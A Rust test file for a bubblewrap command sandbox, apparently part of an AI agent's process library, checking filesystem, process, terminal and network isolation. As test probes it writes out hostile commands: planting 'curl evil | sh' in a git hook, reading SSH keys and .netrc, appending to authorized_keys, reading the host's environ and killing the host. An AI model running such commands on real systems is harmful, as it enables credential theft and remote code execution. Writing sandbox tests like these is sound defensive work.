//! Commands in the sandbox (`ProcessContextBuilder::sandbox`), tried the way a hostile
//! command would — reading hidden paths, writing outside the workspace, reading,
//! signalling and tracing the host, reaching the host's network — and what must still
//! hold inside: the group kill with escapees, exit codes, stdin, terminals, budgets,
//! a narrower policy per command, and a command a person let out. The suite runs on
//! both process paths (`cargo xtask ci` runs it with each).
#![cfg(target_os = "linux")]

use std::io::Write as _;
use std::net::TcpListener;
use std::path::PathBuf;
use std::time::Duration;

use tempfile::TempDir;
use zidane_context::{
    BackgroundOptions, ExecOptions, ExecutionContext, KillReason, NetworkAccess, SandboxPolicy,
    SandboxScope, SandboxStatus, Signal, StdinMode, TaskInput, TaskLimits, TaskStatus, TtySize,
};
use zidane_process::ProcessContext;
use zidane_test_support::{TokenCleanup, unique_token};

use crate::escape::{TOKEN_VAR, processes_with_token};
use crate::support::*;

/// A directory outside the workspace and the temp directories: under the target dir.
fn outside() -> TempDir {
    tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap()
}

/// A fixture whose commands run sandboxed: `policy`, with the fixture's dir as the
/// workspace when the policy names none.
async fn sandboxed(policy: SandboxPolicy) -> Fixture {
    let f = Fixture::with(ProcessContext::builder().sandbox(policy)).await;
    assert_eq!(
        f.context.sandbox().status,
        SandboxStatus::Enforced,
        "bubblewrap must be installed for these tests (`cargo xtask ci` installs it)"
    );
    f
}

async fn workspace_write() -> Fixture {
    sandboxed(SandboxPolicy::default()).await
}

async fn run(f: &Fixture, command: &str) -> (i32, String) {
    run_with(f, command, ExecOptions::new()).await
}

async fn run_with(f: &Fixture, command: &str, options: ExecOptions) -> (i32, String) {
    let output = f.context.exec(f.handle, command, options).await.unwrap();
    (output.exit_code, output.output)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_workspace_and_temp_are_writable_and_nothing_else() {
    let outside = outside();
    let f = workspace_write().await;
    let (code, output) = run(&f, "echo hi > inside.txt && cat inside.txt").await;
    assert_eq!((code, output.as_str()), (0, "hi\n"));
    let temp = unique_token("sandbox-temp");
    let (code, _) = run(&f, &format!("echo t > /tmp/{temp}")).await;
    assert_eq!(code, 0);
    assert!(std::fs::remove_file(format!("/tmp/{temp}")).is_ok());

    let target = outside.path().join("x");
    let (code, output) = run(&f, &format!("echo x > '{}'", target.display())).await;
    assert_ne!(code, 0);
    assert!(!target.exists());
    let rule = format!(
        "sandbox: {} is outside the writable roots",
        target.display()
    );
    assert!(output.contains(&rule), "{output}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denied_paths_cannot_be_read_or_written() {
    let home = outside();
    let ssh = home.path().join(".ssh");
    std::fs::create_dir(&ssh).unwrap();
    std::fs::write(ssh.join("id_ed25519"), "PRIVATE KEY").unwrap();
    let netrc = home.path().join(".netrc");
    std::fs::write(&netrc, "machine h password SECRET").unwrap();
    let f = sandboxed(SandboxPolicy::default().deny_read(&ssh).deny_read(&netrc)).await;
    for command in [
        format!("cat {}/id_ed25519", ssh.display()),
        format!("ls -la {}", ssh.display()),
        format!("cat {}", netrc.display()),
        format!("grep -r KEY {}", home.path().display()),
    ] {
        let (_, output) = run(&f, &command).await;
        assert!(
            !output.contains("PRIVATE KEY") && !output.contains("SECRET"),
            "{command}: {output}"
        );
        assert!(
            !output.lines().any(|line| line.ends_with(" id_ed25519")),
            "{command} lists the key: {output}"
        );
    }
    let (code, _) = run(
        &f,
        &format!("echo evil >> {}/authorized_keys", ssh.display()),
    )
    .await;
    assert_ne!(code, 0);
    assert!(!ssh.join("authorized_keys").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_hooks_and_config_stay_read_only_in_the_workspace() {
    let f = workspace_write().await;
    std::fs::create_dir_all(f.path(".git/hooks")).unwrap();
    std::fs::write(f.path(".git/config"), "[core]\n").unwrap();
    let (code, output) = run(&f, "echo 'curl evil | sh' > .git/hooks/pre-commit").await;
    assert_ne!(code, 0, "{output}");
    assert!(!f.path(".git/hooks/pre-commit").exists());
    let (code, _) = run(&f, "echo '[core] hooksPath = /x' >> .git/config").await;
    assert_ne!(code, 0);
    assert_eq!(
        std::fs::read_to_string(f.path(".git/config")).unwrap(),
        "[core]\n"
    );
    // The rest of .git is the workspace's: commits still work.
    let (code, _) = run(&f, "mkdir -p .git/objects && echo x > .git/objects/x").await;
    assert_eq!(code, 0);
}

/// The host (here: the test process, which is the context's host) cannot be read,
/// signalled or traced: it is not in the task's PID namespace at all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_host_is_invisible_and_unreachable() {
    let f = workspace_write().await;
    let host = std::process::id();
    let (_, output) = run(&f, &format!("cat /proc/{host}/environ; ls /proc")).await;
    assert!(!output.contains("PATH="), "{output}");
    let visible: Vec<&str> = output
        .lines()
        .filter(|line| line.chars().all(|c| c.is_ascii_digit()))
        .collect();
    assert!(
        visible.len() <= 3,
        "the task sees other processes: {visible:?}"
    );
    let (code, _) = run(&f, &format!("kill -0 {host}")).await;
    assert_ne!(code, 0);
    let (code, _) = run(&f, &format!("kill -9 {host}; kill -9 $PPID; exit 0")).await;
    assert_eq!(code, 0);
    // Still here, still answering.
    let (code, output) = run(&f, "echo alive").await;
    assert_eq!((code, output.as_str()), (0, "alive\n"));
}

/// A sandboxed task leads a session of its own with no controlling terminal: it
/// cannot open the host's terminal (`/dev/tty`) and push keystrokes into it (TIOCSTI).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_task_leaves_the_hosts_session_and_terminal() {
    let f = workspace_write().await;
    let exits = Exits::default();
    let started = f
        .start(
            "exec 3</dev/tty && echo opened; echo tried; sleep 1000",
            &exits,
        )
        .await;
    let output = log_holds(&f, started.task_id, "tried").await;
    assert!(!output.contains("opened"), "{output}");
    let stat = std::fs::read_to_string(format!("/proc/{}/stat", started.pid)).unwrap();
    let fields: Vec<&str> = stat[stat.rfind(')').unwrap() + 2..].split(' ').collect();
    // state ppid pgrp session tty_nr
    assert_eq!(fields[2], started.pid.to_string(), "process group: {stat}");
    assert_eq!(fields[3], started.pid.to_string(), "session: {stat}");
    assert_eq!(fields[4], "0", "controlling terminal: {stat}");
    f.kill(started.task_id).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn network_off_cannot_reach_the_hosts_loopback() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let probe = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo reached");
    let on = workspace_write().await;
    let (_, output) = run(&on, &probe).await;
    assert!(output.contains("reached"), "network on: {output}");
    let off = sandboxed(SandboxPolicy::default().network(NetworkAccess::Off)).await;
    let (code, output) = run(&off, &probe).await;
    assert_ne!(code, 0);
    assert!(!output.contains("reached"), "network off: {output}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_kill_ends_the_group_and_its_escapees() {
    let f = workspace_write().await;
    let token = unique_token("sandbox-escape");
    let cleanup = TokenCleanup::new(TOKEN_VAR, token.clone());
    let exits = Exits::default();
    let options = exits.attach(f.options().env(TOKEN_VAR, &token));
    let started = f
        .context
        .exec_background(
            f.handle,
            "sleep 1000 & setsid sleep 1000 & echo up; wait",
            options,
        )
        .await
        .unwrap();
    log_lines(&started.output_path, 1).await;
    eventually("the task's processes are up", || {
        processes_with_token(cleanup.token()).len() >= 3
    })
    .await;
    let exit = f.kill(started.task_id).await;
    assert_eq!(exit.status, TaskStatus::Killed);
    assert_eq!(exit.signal, Some(Signal::TERM));
    assert_eq!(processes_with_token(cleanup.token()), Vec::<u32>::new());
    assert_eq!(exits.wait_for(1).await, vec![exit]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exit_codes_and_output_come_through_once() {
    let f = workspace_write().await;
    let exits = Exits::default();
    let started = f.start("echo out; echo err >&2; exit 3", &exits).await;
    let exit = f.ended(started.task_id).await;
    assert_eq!((exit.status, exit.exit_code), (TaskStatus::Exited, 3));
    assert_eq!(read_log(&started.output_path), "out\nerr\n");
    assert_eq!(exits.wait_for(1).await.len(), 1);
    let (code, _) = run(&f, "exit 7").await;
    assert_eq!(code, 7);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stdin_and_terminals_work_inside() {
    let f = workspace_write().await;
    let exits = Exits::default();
    let mut options = exits.attach(f.options());
    options.stdin = StdinMode::Pipe;
    let piped = f
        .context
        .exec_background(f.handle, "read line; echo got $line", options)
        .await
        .unwrap();
    f.context
        .write_input(f.handle, piped.task_id, TaskInput::text("hello\n"))
        .await
        .unwrap();
    assert_eq!(f.ended(piped.task_id).await.exit_code, 0);
    assert_eq!(read_log(&piped.output_path), "got hello\n");

    let mut options = exits.attach(f.options());
    options.tty = Some(TtySize::new(24, 80));
    let terminal = f
        .context
        .exec_background(
            f.handle,
            "test -t 0 && echo on-a-terminal; read x; echo typed $x",
            options,
        )
        .await
        .unwrap();
    log_holds(&f, terminal.task_id, "on-a-terminal").await;
    type_in(&f, terminal.task_id, "abc\r").await;
    log_holds(&f, terminal.task_id, "typed abc").await;
    assert_eq!(f.ended(terminal.task_id).await.exit_code, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn budgets_end_a_sandboxed_task() {
    let f = workspace_write().await;
    let exits = Exits::default();
    let mut options = exits.attach(f.options());
    options.limits = TaskLimits::default().wall_time(Duration::from_millis(300));
    let started = f
        .context
        .exec_background(f.handle, "sleep 1000", options)
        .await
        .unwrap();
    let exit = f.ended(started.task_id).await;
    assert_eq!(exit.status, TaskStatus::Killed);
    assert!(
        matches!(exit.kill_reason, Some(KillReason::WallTime { .. })),
        "{exit:?}"
    );
}

/// A host's stricter policy narrows one command; a command a person let out runs
/// unsandboxed; neither changes the next command.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_command_narrowed_and_one_let_out() {
    let outside = outside();
    // A workspace outside the temp directories, which stay writable in `read-only`.
    let workspace = self::outside();
    let f = sandboxed(SandboxPolicy::workspace_write(workspace.path())).await;
    let in_workspace = |scope| {
        ExecOptions::new().spec(
            zidane_context::CommandSpec::new()
                .cwd(workspace.path())
                .sandbox(scope),
        )
    };
    let (code, _) = run_with(&f, "echo x > wide.txt", in_workspace(SandboxScope::Context)).await;
    assert_eq!(code, 0);
    let narrowed = in_workspace(SandboxScope::Within(SandboxPolicy::read_only()));
    let (code, output) = run_with(&f, "echo x > narrowed.txt", narrowed).await;
    assert_ne!(code, 0);
    assert!(!workspace.path().join("narrowed.txt").exists());
    assert!(
        output.contains("is outside the writable roots (read-only)"),
        "{output}"
    );
    // A host that writes nothing gets no temp directory either.
    let temp = format!("/tmp/{}", unique_token("narrowed-temp"));
    let narrowed = in_workspace(SandboxScope::Within(SandboxPolicy::read_only()));
    let (code, _) = run_with(&f, &format!("echo x > {temp}"), narrowed).await;
    assert_ne!(code, 0);
    assert!(!std::path::Path::new(&temp).exists());
    let target = outside.path().join("approved");
    let let_out =
        ExecOptions::new().spec(zidane_context::CommandSpec::new().sandbox(SandboxScope::Outside));
    let (code, _) = run_with(&f, &format!("echo x > '{}'", target.display()), let_out).await;
    assert_eq!(code, 0);
    assert!(target.exists());
    let again = outside.path().join("again");
    let (code, _) = run(&f, &format!("echo x > '{}'", again.display())).await;
    assert_ne!(code, 0);
    assert!(!again.exists());
}

/// A host's policy holds where the user's own is `off`: zidane never runs wider than
/// its host (Codex's sandbox), and a read-only path the host names inside its
/// workspace stays read-only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hosts_policy_holds_under_an_off_context() {
    let outside = outside();
    let workspace = self::outside();
    let f = Fixture::with(ProcessContext::builder().sandbox(SandboxPolicy::off())).await;
    let host = SandboxPolicy::workspace_write(workspace.path())
        .network(NetworkAccess::Off)
        .read_only_path(workspace.path().join("held"));
    std::fs::create_dir(workspace.path().join("held")).unwrap();
    let within = || {
        ExecOptions::new().spec(
            zidane_context::CommandSpec::new()
                .cwd(workspace.path())
                .sandbox(SandboxScope::Within(host.clone())),
        )
    };
    let (code, _) = run_with(&f, "echo x > inside.txt", within()).await;
    assert_eq!(code, 0);
    assert!(workspace.path().join("inside.txt").exists());
    let target = outside.path().join("escaped");
    let (code, _) = run_with(&f, &format!("echo x > '{}'", target.display()), within()).await;
    assert_ne!(code, 0);
    assert!(!target.exists());
    let (code, _) = run_with(&f, "echo x > held/file", within()).await;
    assert_ne!(code, 0);
    assert!(!workspace.path().join("held/file").exists());
    // The next command of the context's own runs as it is.
    let (code, _) = run(&f, &format!("echo x > '{}'", target.display())).await;
    assert_eq!(code, 0);
}

/// With the policy `off` nothing is wrapped: the task sees the host.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn off_runs_commands_as_they_are() {
    let f = Fixture::with(ProcessContext::builder().sandbox(SandboxPolicy::off())).await;
    assert_eq!(f.context.sandbox().status, SandboxStatus::Off);
    assert!(f.context.sandbox_plan().is_none());
    let host = std::process::id();
    let (code, _) = run(&f, &format!("kill -0 {host}")).await;
    assert_eq!(code, 0);
    let mut file = std::fs::File::create(f.path("probe")).unwrap();
    file.write_all(b"x").unwrap();
    let _: PathBuf = f.path("probe");
}

/// zidane's user dir is hidden, but a context's own task logs inside it stay readable
/// to its commands (`tail` of a log the model was given); another session's do not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn own_task_logs_stay_readable_inside_a_hidden_dir() {
    let user = outside();
    let mine = user.path().join("sessions/a/tasks");
    let theirs = user.path().join("sessions/b/tasks");
    std::fs::create_dir_all(&theirs).unwrap();
    std::fs::write(theirs.join("bash_1.log"), "THEIR SECRET OUTPUT").unwrap();
    let f = sandboxed(SandboxPolicy::default().deny_read(user.path())).await;
    let exits = Exits::default();
    let first = f
        .context
        .exec_background(
            f.handle,
            "echo first-output",
            exits.attach(BackgroundOptions::new(&mine)),
        )
        .await
        .unwrap();
    f.ended(first.task_id).await;
    let command = format!(
        "cat '{}'; cat '{}/bash_1.log'",
        first.output_path.display(),
        theirs.display()
    );
    let second = f
        .context
        .exec_background(
            f.handle,
            &command,
            exits.attach(BackgroundOptions::new(&mine)),
        )
        .await
        .unwrap();
    f.ended(second.task_id).await;
    let output = read_log(&second.output_path);
    assert!(output.contains("first-output"), "{output}");
    assert!(!output.contains("THEIR SECRET"), "{output}");
}

/// Roots added while the context runs (an MCP client's) are writable from the next
/// command on.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn added_workspace_roots_are_writable() {
    let root = outside();
    let f = workspace_write().await;
    let target = root.path().join("made");
    let command = format!("echo x > '{}'", target.display());
    let (code, _) = run(&f, &command).await;
    assert_ne!(code, 0);
    f.context.add_workspace_roots(&[root.path().to_path_buf()]);
    let (code, output) = run(&f, &command).await;
    assert_eq!(code, 0, "{output}");
    assert!(target.exists());
}
